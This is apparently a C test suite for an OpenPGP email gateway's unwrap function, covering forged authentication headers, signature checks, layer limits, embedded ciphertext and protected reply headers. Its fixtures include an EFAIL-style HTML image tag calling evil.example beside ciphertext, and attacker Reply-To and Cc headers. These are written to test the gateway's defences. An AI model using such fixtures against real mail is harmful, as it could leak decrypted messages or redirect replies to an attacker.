/* test_unwrap.c - the single decrypt/verify entry point (src/engine/unwrap.c) over the
 * registered engines with a real keystore: plain mail untouched, forged result fields removed
 * (only our authserv-id, also under a header nothing parses), encrypted mail for readers and
 * the others, the stamps' exact form, a signature wrapper around an encrypted body,
 * sign-then-encrypt, the layer limit; ciphertext beside other parts or text never opened,
 * reply fields only from protected headers.
 * Owner: src/cryptd (OpenPGP). */
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "check.h"
#include "engine/engine.h"
#include "engine/pgp/engine_pgp_int.h"
#include "engine/unwrap.h"
#include "mime/mime.h"
#include "pgp_fixture.h"

static const sg_engine *E;
static const char *const RCPTS[] = {"bob@demo.test", "carl@demo.test"};

static int unwrap(const char *msg, size_t len, int max_layers, sg_unwrap_result *u)
{
    sg_unwrap_req req = {.rcpts = RCPTS, .nrcpt = 2, .authserv_id = "gw.demo.test", .max_layers = max_layers,
                         .qid = "test"};
    return sg_unwrap(&req, msg, len, u);
}

static int protect(const char *msg, size_t len, int sign, const char *to, sg_buf *out)
{
    char err[256];
    const char *r[] = {to};
    sg_protect_req req = {.sender = "alice@example.net", .sign = sign, .rcpts = r, .nrcpt = to ? 1 : 0};
    sg_buf_reset(out);
    return E->protect(&req, msg, len, out, err, sizeof err);
}

/* The body of a message: after the first empty line. */
static const char *body(const char *m)
{
    const char *b = strstr(m, "\r\n\r\n");
    return b ? b + 4 : "";
}

static void test_plain(void)
{
    const char plain[] = "From: x@example.net\r\nTo: bob@demo.test\r\nSubject: hi\r\n\r\nplain\r\n";
    sg_unwrap_result u;
    CHECK(unwrap(plain, sizeof plain - 1, 8, &u) == 0 && u.unchanged && !u.reader_msg && !u.other_msg && !u.hold,
          "plain mail: unchanged, nothing built");
    sg_unwrap_result_free(&u);
    const char forged[] = "Authentication-Results: GW.demo.test; x-pgp=pass header.from=x@example.net\r\n"
                          "Authentication-Results: mx.example.net; dkim=pass\r\n"
                          "Authentication-Results: (comment) gw.demo.test 1; smime=pass\r\n"
                          "From: x@example.net\r\nX-Sealgate-Signature: valid\r\nSubject: hi\r\n\r\nplain\r\n";
    const char want[] = "Authentication-Results: mx.example.net; dkim=pass\r\n"
                        "From: x@example.net\r\nSubject: hi\r\n\r\nplain\r\n";
    CHECK(unwrap(forged, sizeof forged - 1, 8, &u) == 0 && !u.unchanged && u.other_msg &&
              u.other_len == sizeof want - 1 && memcmp(u.other_msg, want, u.other_len) == 0 &&
              !u.readable[0] && !u.readable[1],
          "forged X-Sealgate-* and our Authentication-Results removed, another server's kept, nothing added");
    sg_unwrap_result_free(&u);
}

static void test_encrypted(const char *alice, sg_buf *m)
{
    const char msg[] = "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: secret\r\n"
                       "Content-Type: text/plain\r\n\r\nthe plan\r\n";
    sg_unwrap_result u;
    CHECK(protect(msg, sizeof msg - 1, SG_SIGN_SENDER, "bob@demo.test", m) == 0, "alice signs and encrypts to bob");
    char want[1024];
    snprintf(want, sizeof want,
             "X-Sealgate-Decryption: full\r\nX-Sealgate-Signature: valid; signer=%s; from-match=yes\r\n"
             "Authentication-Results: gw.demo.test;\r\n x-pgp=pass (signer=%s) header.from=alice@example.net\r\n",
             alice, alice);
    int rc = unwrap(m->data, m->len, 8, &u);
    CHECK(rc == 0 && u.readable[0] && !u.readable[1] && u.reader_msg && strncmp(u.reader_msg, want, strlen(want)) == 0 &&
              strstr(u.reader_msg, "\r\nSubject: secret\r\n") && !strstr(u.reader_msg, "Subject: ...") &&
              strcmp(body(u.reader_msg), "the plan\r\n") == 0 && u.reader.dec == SG_UNWRAP_DEC_FULL &&
              u.reader.sig.sig == SG_SIG_VALID && u.reader.sig_whole,
          "bob reads it: decrypted, stamps in their documented form, subject restored");
    if (rc == 0 && u.reader_msg && strncmp(u.reader_msg, want, strlen(want)) != 0)
        printf("# got:\n%.*s\n", (int)(strstr(u.reader_msg, "\r\n\r\n") - u.reader_msg), u.reader_msg);
    CHECK(rc == 0 && u.other_msg && strncmp(u.other_msg, "X-Sealgate-Decryption: none; reason=no-key\r\n", 44) == 0 &&
              strstr(u.other_msg, "multipart/encrypted") && u.other.dec == SG_UNWRAP_DEC_NONE,
          "carl (no key it was encrypted to) gets the ciphertext, stamped no-key");
    sg_unwrap_result_free(&u);

    /* Protected headers put another From in front of the reader than the one the signature
     * was checked against (the outer one): the signature does not count. */
    const char other[] = "From: alicf@example.net\r\nTo: bob@demo.test\r\nSubject: secret\r\n"
                         "Content-Type: text/plain\r\n\r\nthe plan\r\n";
    char *outer_from = protect(other, sizeof other - 1, SG_SIGN_SENDER, "bob@demo.test", m) == 0
                           ? strstr(m->data, "From: alicf@example.net")
                           : NULL;
    if (outer_from)
        memcpy(outer_from, "From: alice", 11);
    CHECK(outer_from && unwrap(m->data, m->len, 8, &u) == 0 && u.reader.sig.sig == SG_SIG_INVALID &&
              strcmp(u.reader.sig.reason, "from-mismatch") == 0 && strstr(u.reader_msg, "x-pgp=policy (from-mismatch)") &&
              strstr(u.reader_msg, "header.from=alicf@example.net"),
          "protected From differs from the signer's: invalid from-mismatch, policy, header.from as shown");
    sg_unwrap_result_free(&u);

    /* Sign-then-encrypt (RFC 3156 6.1): the inner multipart/signed is verified; max_layers 1
     * leaves it unverified. */
    sg_buf s;
    sg_buf_init(&s, SG_MIME_MAX_OUT);
    rc = protect(msg, sizeof msg - 1, SG_SIGN_SENDER, NULL, &s) == 0 &&
         protect(s.data, s.len, SG_SIGN_NONE, "bob@demo.test", m) == 0;
    CHECK(rc && unwrap(m->data, m->len, 8, &u) == 0 && u.layers == 2 && u.reader.sig.sig == SG_SIG_VALID &&
              u.reader.dec == SG_UNWRAP_DEC_FULL && strstr(u.reader_msg, "multipart/signed"),
          "sign-then-encrypt: two layers, the inner signature valid, delivered still signed");
    sg_unwrap_result_free(&u);
    CHECK(rc && unwrap(m->data, m->len, 1, &u) == 0 && u.layers == 1 && u.reader.sig.sig == SG_SIG_NONE,
          "max_layers 1: the inner signature is not looked at");
    sg_unwrap_result_free(&u);

    /* Encrypted twice: beyond the limit the second layer stays encrypted -> partial. */
    rc = protect(msg, sizeof msg - 1, SG_SIGN_NONE, "bob@demo.test", &s) == 0 &&
         protect(s.data, s.len, SG_SIGN_NONE, "bob@demo.test", m) == 0;
    CHECK(rc && unwrap(m->data, m->len, 1, &u) == 0 && u.reader.dec == SG_UNWRAP_DEC_PARTIAL &&
              strcmp(u.reader.dec_reason, "too-many-layers") == 0,
          "an encrypted layer beyond the limit: decryption partial, reason too-many-layers");
    sg_unwrap_result_free(&u);
    CHECK(rc && unwrap(m->data, m->len, 8, &u) == 0 && u.reader.dec == SG_UNWRAP_DEC_FULL &&
              strcmp(body(u.reader_msg), "the plan\r\n") == 0,
          "encrypted twice, within the limit: full");
    sg_unwrap_result_free(&u);

    /* A signature wrapper around the whole encrypted body (rc-openpgp-sigwrap-mdc's shape):
     * the signature covers the ciphertext the whole delivered text comes from. */
    rc = protect(msg, sizeof msg - 1, SG_SIGN_NONE, "bob@demo.test", &s) == 0;
    const char *ct = strstr(s.data ? s.data : "", "Content-Type: multipart/encrypted");
    char *sig = NULL;
    size_t siglen = 0;
    char err[200];
    sg_buf_reset(m);
    rc = rc && ct &&
         sg_pgp_ops_sign(sg_engine_pgp_keys(), alice, false, ct, (size_t)(s.data + s.len - ct), &sig, &siglen, err,
                         sizeof err) == 0 &&
         sg_mime_wrap_signed(msg, sizeof msg - 1, ct, (size_t)(s.data + s.len - ct), sig, siglen, m) == 0;
    CHECK(rc && unwrap(m->data, m->len, 8, &u) == 0 && u.layers == 2 && u.reader.dec == SG_UNWRAP_DEC_FULL &&
              u.reader.sig.sig == SG_SIG_VALID && strcmp(body(u.reader_msg), "the plan\r\n") == 0,
          "multipart/signed around multipart/encrypted: decrypted whole, signature valid");
    sg_unwrap_result_free(&u);
    char *flip = rc ? strstr(m->data, "-----BEGIN PGP MESSAGE-----") : NULL;
    if (flip)
        flip[40] = flip[40] == 'A' ? 'B' : 'A';
    CHECK(flip && unwrap(m->data, m->len, 8, &u) == 0 && u.reader_msg == NULL && (u.hold || u.reader.dec != SG_UNWRAP_DEC_FULL),
          "the wrapped ciphertext modified: no plaintext (%s)", u.reason);
    sg_unwrap_result_free(&u);
    free(sig);
    sg_buf_free(&s);
}

static void test_signed(sg_buf *m)
{
    const char msg[] = "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: open\r\n\r\nsigned text\r\n";
    sg_unwrap_result u;
    int rc = protect(msg, sizeof msg - 1, SG_SIGN_SENDER, NULL, m) == 0 && unwrap(m->data, m->len, 8, &u) == 0;
    CHECK(rc && !u.reader_msg && u.other_msg && !strstr(u.other_msg, "X-Sealgate-Decryption") &&
              strstr(u.other_msg, "X-Sealgate-Signature: valid;") && strstr(u.other_msg, " x-pgp=pass") &&
              strcmp(body(u.other_msg), body(m->data)) == 0,
          "multipart/signed: stamped valid, body byte for byte");
    if (rc)
        sg_unwrap_result_free(&u);
    /* The From is not the signer's: no key bound to it made the signature. */
    char *f = strstr(m->data, "alice@example.net");
    if (f)
        memcpy(f, "alicf", 5);
    CHECK(f && unwrap(m->data, m->len, 8, &u) == 0 && u.other.sig.sig == SG_SIG_INVALID &&
              strstr(u.other_msg, "x-pgp=neutral (unknown-key)"),
          "signed by alice, From someone else: invalid, Authentication-Results neutral (unknown-key)");
    sg_unwrap_result_free(&u);
}

/* The message is delivered as it arrived, stamped embedded-ciphertext, no plaintext in it. */
static bool closed(const sg_unwrap_result *u, const char *m, const char *secret)
{
    return !u->readable[0] && !u->reader_msg && u->other_msg && strcmp(body(u->other_msg), body(m)) == 0 &&
           strstr(u->other_msg, "X-Sealgate-Decryption: none; reason=embedded-ciphertext\r\n") &&
           !strstr(u->other_msg, secret);
}

/* Ciphertext inside a wrapper of someone else's (issue 9, item 6): never opened. */
static void test_embedded(const char *alice, const char *bob)
{
    char to[1][SG_PGP_FPR_LEN + 1], err[200], *arm = NULL;
    size_t alen = 0;
    memcpy(to[0], bob, SG_PGP_FPR_LEN + 1);
    const char secret[] = "the inline secret\r\n";
    int ok = sg_pgp_ops_encrypt(sg_engine_pgp_keys(), alice, to, 1, secret, sizeof secret - 1, &arm, &alen, err,
                                sizeof err) == 0;
    sg_buf m, b;
    sg_buf_init(&m, SG_MIME_MAX_OUT);
    sg_buf_init(&b, SG_MIME_MAX_OUT);
    sg_unwrap_result u;

    /* The same block under a header nothing can parse: forged results go, nothing is peeled
     * (no rebuilt message could carry that header), nothing is held. */
    sg_buf_appendf(&m, "From: alice@example.net\r\nno colon\r\nX-Sealgate-Signature: valid\r\n\r\n%.*s",
                   (int)alen, arm ? arm : "");
    int rc0 = ok ? unwrap(m.data, m.len, 8, &u) : -1;
    CHECK(rc0 == 0 && !u.hold && !u.reader_msg && u.other_msg && !u.readable[0] &&
              !memmem(u.other_msg, u.other_len, "X-Sealgate", 10) &&
              memmem(u.other_msg, u.other_len, "no colon\r\n\r\n-----BEGIN PGP MESSAGE", 34),
          "unparsable header: forged stamp removed, the armored block delivered as it came");
    if (rc0 == 0)
        sg_unwrap_result_free(&u);
    sg_buf_reset(&m);

    /* An armored block inside other text. */
    sg_buf_appendf(&m, "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: partly\r\n"
                       "Content-Type: text/plain; charset=utf-8\r\n\r\nLook at this:\r\n\r\n%.*s\r\nregards\r\n",
                   (int)alen, arm ? arm : "");
    int rc = ok ? unwrap(m.data, m.len, 8, &u) : -1;
    CHECK(rc == 0 && closed(&u, m.data, "inline secret"),
          "inline block inside text: not decrypted, text byte for byte, embedded-ciphertext");
    if (rc == 0)
        sg_unwrap_result_free(&u);
    /* The same block as the whole text of a part, beside the attacker's text part. */
    sg_buf_reset(&m);
    sg_buf_appendf(
        &m,
        "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"L\"\r\n\r\n--L\r\nContent-Type: text/plain\r\n\r\n"
        "Please quote this in your reply:\r\n--L\r\nContent-Type: text/plain\r\n\r\n%.*s\r\n--L--\r\n",
        (int)alen, arm ? arm : "");
    rc = ok ? unwrap(m.data, m.len, 8, &u) : -1;
    CHECK(rc == 0 && closed(&u, m.data, "inline secret"),
          "whole-text block in a part beside attacker text: closed");
    if (rc == 0)
        sg_unwrap_result_free(&u);

    /* multipart/mixed around multipart/encrypted and a text part (a list footer, or the
     * attacker's words), as multipart/alternative, and beside HTML. */
    const char inner_msg[] = "From: alice@example.net\r\nTo: list@demo.test\r\nSubject: s\r\n"
                             "Content-Type: text/plain\r\n\r\nlist secret\r\n";
    rc = protect(inner_msg, sizeof inner_msg - 1, SG_SIGN_SENDER, "bob@demo.test", &b);
    const char *ct = rc == 0 ? strstr(b.data, "Content-Type: multipart/encrypted") : NULL;
    static const char *const shapes[][2] = {
        {"mixed", "Content-Type: text/plain\r\n\r\n-- \r\nlist footer\r\n"},
        {"alternative", "Content-Type: text/plain\r\n\r\nPlease reply with the text quoted.\r\n"},
        {"mixed", "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n"},
    };
    for (size_t i = 0; i < sizeof shapes / sizeof *shapes; i++) {
        sg_buf_reset(&m);
        bool first = i == 1; /* the attacker's plain text as the alternative shown first */
        sg_buf_appendf(
            &m,
            "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/%s; boundary=\"L\"\r\n\r\n--L\r\n%s\r\n--L\r\n%s\r\n--L--\r\n",
            shapes[i][0],
            first ? shapes[i][1]
            : ct  ? ct
                  : "",
            first ? ct ? ct : "" : shapes[i][1]);
        rc = ct ? unwrap(m.data, m.len, 8, &u) : -1;
        CHECK(rc == 0 && closed(&u, m.data, "list secret") && !u.readable[1],
              "multipart/%s with ciphertext beside %s: not opened, body unchanged, embedded-ciphertext",
              shapes[i][0], i == 2 ? "HTML" : "text");
        if (rc == 0)
            sg_unwrap_result_free(&u);
    }

    /* The attacker encrypts a wrapper of their own to bob: the outer layer opens, the victim's
     * ciphertext inside it beside the attacker's text stays closed. */
    sg_buf wrapper;
    sg_buf_init(&wrapper, SG_MIME_MAX_OUT);
    sg_buf_appendf(
        &wrapper,
        "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"W\"\r\n\r\n--W\r\nContent-Type: text/plain\r\n\r\n"
        "quote me\r\n--W\r\n%s\r\n--W--\r\n",
        ct ? ct : "");
    sg_buf_reset(&m);
    rc = ct ? protect(wrapper.data, wrapper.len, SG_SIGN_NONE, "bob@demo.test", &m) : -1;
    rc = rc == 0 ? unwrap(m.data, m.len, 8, &u) : -1;
    CHECK(rc == 0 && u.readable[0] && u.reader_msg && u.reader.dec == SG_UNWRAP_DEC_PARTIAL &&
              strcmp(u.reader.dec_reason, "embedded-ciphertext") == 0 && strstr(u.reader_msg, "quote me") &&
              strstr(u.reader_msg, "multipart/encrypted") && !strstr(u.reader_msg, "list secret"),
          "encrypted wrapper around ciphertext and text: outer opened, inner closed, partial "
          "embedded-ciphertext");
    if (rc == 0)
        sg_unwrap_result_free(&u);
    sg_buf_free(&wrapper);

    /* "Mixed-up" PGP/MIME (MS Exchange, ProtonMail): repaired only behind a placeholder. */
    const char *arm2 = ct ? strstr(ct, "-----BEGIN PGP MESSAGE-----") : NULL;
    const char *arm2end = arm2 ? strstr(arm2, "-----END PGP MESSAGE-----") : NULL;
    for (int words = 0; words < 2; words++) {
        sg_buf_reset(&m);
        sg_buf_appendf(&m, "From: alice@example.net\r\nTo: bob@demo.test\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
                           "Content-Type: multipart/mixed; boundary=\"X\"\r\n\r\n--X\r\nContent-Type: text/plain\r\n\r\n%s\r\n"
                           "--X\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--X\r\n"
                           "Content-Type: application/octet-stream\r\n\r\n%.*s-----END PGP MESSAGE-----\r\n\r\n--X--\r\n",
                       words ? "Please read the attachment." : "",
                       arm2end ? (int)(arm2end - arm2) : 0, arm2 ? arm2 : "");
        rc = arm2end ? unwrap(m.data, m.len, 8, &u) : -1;
        if (words)
            CHECK(rc == 0 && u.unchanged && !u.readable[0], "mixed-up PGP/MIME with words in its text part: not repaired");
        else
            CHECK(rc == 0 && u.readable[0] && u.reader.dec == SG_UNWRAP_DEC_FULL &&
                      strcmp(body(u.reader_msg), "list secret\r\n") == 0,
                  "mixed-up PGP/MIME behind an empty text part: decrypted, the whole body replaced");
        if (rc == 0)
            sg_unwrap_result_free(&u);
    }
    free(arm);
    sg_buf_free(&m);
    sg_buf_free(&b);
}

/* The header fields of m's header, up to the empty line. */
static bool in_header(const char *m, const char *what)
{
    const char *end = strstr(m, "\r\n\r\n"), *at = strstr(m, what);
    return at && end && at < end;
}

/* The fields that steer replies come from the protected headers; without them, the stamp says so. */
static void test_reply_fields(const char *alice, const char *bob)
{
    const char msg[] = "From: alice@example.net\r\nTo: bob@demo.test\r\nReply-To: alice-desk@example.net\r\n"
                       "Subject: secret\r\nContent-Type: text/plain\r\n\r\nthe plan\r\n";
    const char evil[] =
        "From: alice@example.net\r\nTo: bob@demo.test\r\nCc: mallory@evil.example\r\n"
        "Reply-To: mallory@evil.example\r\nMail-Followup-To: mallory@evil.example\r\nSubject: ...\r\n";
    sg_buf m, x;
    sg_buf_init(&m, SG_MIME_MAX_OUT);
    sg_buf_init(&x, SG_MIME_MAX_OUT);
    sg_unwrap_result u;
    /* The attacker's own header above alice's protected message. */
    int rc = protect(msg, sizeof msg - 1, SG_SIGN_SENDER, "bob@demo.test", &m);
    const char *mv = rc == 0 ? strstr(m.data, "MIME-Version:") : NULL;
    if (mv)
        sg_buf_appendf(&x, "%s%s", evil, mv);
    rc = mv ? unwrap(x.data, x.len, 8, &u) : -1;
    CHECK(rc == 0 && u.reader_msg && !strstr(u.reader_msg, "mallory") &&
              in_header(u.reader_msg, "\r\nReply-To: alice-desk@example.net\r\n") &&
              in_header(u.reader_msg, "\r\nFrom: alice@example.net\r\n") &&
              strncmp(u.reader_msg, "X-Sealgate-Decryption: full\r\n", 29) == 0,
          "protected headers: outer Reply-To, Mail-Followup-To and Cc of the wrapper replaced or removed");
    if (rc == 0)
        sg_unwrap_result_free(&u);
    /* No protected headers (a bare entity encrypted): delivered, stamped unprotected-headers. */
    char to[1][SG_PGP_FPR_LEN + 1], err[200], *arm = NULL;
    size_t alen = 0;
    memcpy(to[0], bob, SG_PGP_FPR_LEN + 1);
    const char ent[] = "Content-Type: text/plain\r\n\r\nno protected headers\r\n";
    sg_buf_reset(&x);
    rc = sg_pgp_ops_encrypt(sg_engine_pgp_keys(), alice, to, 1, ent, sizeof ent - 1, &arm, &alen, err,
                            sizeof err) == 0 &&
                 sg_mime_wrap_encrypted(evil, sizeof evil - 1, arm, alen, &x) == 0
             ? unwrap(x.data, x.len, 8, &u)
             : -1;
    CHECK(rc == 0 && u.reader_msg && u.reader.dec == SG_UNWRAP_DEC_FULL &&
              strncmp(u.reader_msg, "X-Sealgate-Decryption: full; unprotected-headers\r\n", 50) == 0 &&
              strstr(body(u.reader_msg), "no protected headers"),
          "no protected headers: decrypted, stamped full; unprotected-headers");
    if (rc == 0)
        sg_unwrap_result_free(&u);
    free(arm);
    sg_buf_free(&m);
    sg_buf_free(&x);
}

int main(void)
{
    static pgp_fixture f;
    char alice[SG_PGP_FPR_LEN + 1], bob[SG_PGP_FPR_LEN + 1];
    int ok = fixture_open(&f) == 0;
    CHECK(ok, "keystore opened, engine initialised");
    if (!ok)
        return CHECK_DONE();
    E = f.e;
    CHECK(sg_keystore_generate(f.ks, "alice@example.net", "ed25519", 0, NULL, alice) == 0 &&
              sg_keystore_generate(f.ks, "bob@demo.test", "ed25519", 0, NULL, bob) == 0,
          "keys of alice (sender) and bob (reader)");
    sg_buf m;
    sg_buf_init(&m, SG_MIME_MAX_OUT);
    test_plain();
    test_encrypted(alice, &m);
    test_signed(&m);
    test_embedded(alice, bob);
    test_reply_fields(alice, bob);
    sg_buf_free(&m);
    if (fixture_close(&f) < 0)
        return 1;
    return CHECK_DONE();
}
